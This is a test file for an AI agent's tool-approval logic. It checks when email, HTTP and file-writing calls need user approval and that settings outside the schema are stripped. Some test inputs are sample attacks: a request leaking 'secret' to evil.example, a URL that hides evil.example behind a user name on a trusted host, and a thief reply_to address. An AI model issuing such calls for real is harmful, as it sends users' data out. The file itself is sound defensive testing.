import { UserWords } from '@app/agents';
import { SystemClock } from '@app/common';
import { toolCatalogue } from '@app/workflow-tools';
import type { ToolPorts } from '@app/workflows';
import { CatalogueTools } from './catalogue-tools.js';
import { approvalForKind } from './outside-effects.js';

const nobody = new UserWords([]);
const named = new UserWords(['Look at https://api.acme.example/orders for me.']);

describe('what an agent asks before', () => {
  it.each([
    ['a mail', 'send_email', { to: 'B@x.example, a@x.example', subject: 'S' }, 'send_email:a@x.example,b@x.example'],
    [
      'a list of recipients',
      'send_email',
      { to: ['a@x.example'], bcc: 'c@x.example' },
      'send_email:a@x.example,c@x.example',
    ],
    [
      'reading a host that nobody named',
      'http_request',
      { url: 'https://evil.example/?q=secret' },
      'http_request:read https://evil.example',
    ],
    [
      'writing',
      'http_request',
      { method: 'post', url: 'https://api.acme.example/x' },
      'http_request:POST https://api.acme.example',
    ],
    [
      'reading a neighbour of a named host',
      'http_request',
      { url: 'https://acme.example/' },
      'http_request:read https://acme.example',
    ],
    [
      'a host behind a user name',
      'http_request',
      { url: 'https://api.acme.example@evil.example/' },
      'http_request:read https://evil.example',
    ],
    ['replacing a file', 'file_writer', { path: 'a.txt', if_exists: 'replace' }, 'file_writer:a.txt'],
  ])('%s', (_, kind, input, key) => {
    expect(approvalForKind(kind, input, named)?.key).toBe(key);
  });

  it.each([
    ['reading a named host', 'http_request', { url: 'https://api.acme.example/orders?page=2' }],
    ['writing a new file', 'file_writer', { path: 'a.txt' }],
    ['searching', 'semantic_search', { query: 'https://evil.example' }],
  ])('not before %s', (_, kind, input) => {
    expect(approvalForKind(kind, input, named)).toBeNull();
  });

  it('never grants one recipient what was granted for another', () => {
    const keys = ['a@x.example', 'a@x.example,b@x.example', 'b@x.example'].map(
      (to) => approvalForKind('send_email', { to, subject: '' }, nobody)!.key,
    );
    expect(new Set(keys).size).toBe(3);
  });
});

describe('CatalogueTools', () => {
  const calls: unknown[] = [];
  const ports: ToolPorts = {
    http: { request: () => Promise.reject(new Error('down')) },
    mail: {
      send: (viewer, mail, { idempotencyKey }) => {
        calls.push([viewer.userId, mail.to, idempotencyKey]);
        return Promise.resolve({ recipients: 1 });
      },
    },
    sandbox: { run: () => Promise.reject(new Error('down')) },
  };
  const tools = new CatalogueTools(toolCatalogue, ports, new SystemClock()).list({
    viewer: { userId: 7 },
    workId: 'turn',
  });
  const find = (name: string) => tools.find((tool) => tool.name === name)!;
  const context = { idempotencyKey: 'turn:1.1', signal: new AbortController().signal, cite: () => 1 };

  it('offers what there are ports for, with plain schemas', () => {
    expect(tools.map(({ name }) => name).sort()).toEqual(['code', 'http_request', 'send_email']);
    expect(find('http_request').inputSchema).toMatchObject({
      type: 'object',
      required: ['url'],
      additionalProperties: false,
      properties: { url: { type: 'string' }, max_bytes: { type: 'integer' } },
    });
    expect(Object.keys(find('http_request').inputSchema.properties as object)).not.toContain('token');
    expect(JSON.stringify(tools.map(({ inputSchema }) => inputSchema)).length).toBeLessThan(12_000);
  });

  it('gives what cannot be set no way in', async () => {
    const input = { to: 'a@x.example', subject: 'S', text: 'T', reply_to: 'thief@evil.example' };
    await find('send_email').run(input, context);
    expect(calls).toEqual([[7, ['a@x.example'], 'turn:1.1']]);
    expect(find('http_request').effectsOf({ url: 'https://x.example', method: 'POST', safe_to_repeat: true })).toBe(
      'external',
    );
  });

  it('tells mistakes from failures, and keeps the inside to itself', async () => {
    await expect(find('send_email').run({ to: 'nobody', subject: '' }, context)).rejects.toMatchObject({
      code: 'invalid_params',
      isMistake: true,
    });
    await expect(find('code').run({ code: 'return 1;' }, context)).rejects.toMatchObject({
      code: 'tool_error',
      message: 'The tool failed unexpectedly.',
      isMistake: false,
    });
  });
});
